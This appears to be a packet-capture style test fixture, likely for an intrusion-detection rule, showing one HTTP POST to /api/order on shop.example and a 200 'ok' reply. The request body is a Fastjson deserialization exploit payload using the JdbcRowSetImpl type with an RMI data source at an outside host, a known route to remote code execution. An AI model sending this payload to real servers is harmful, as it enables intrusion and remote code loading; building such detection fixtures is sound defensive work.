# Fastjson type name of a JNDI row set.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /api/order HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/json\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 99\r\n
\r\n
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.7/x","autoCommit":true}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
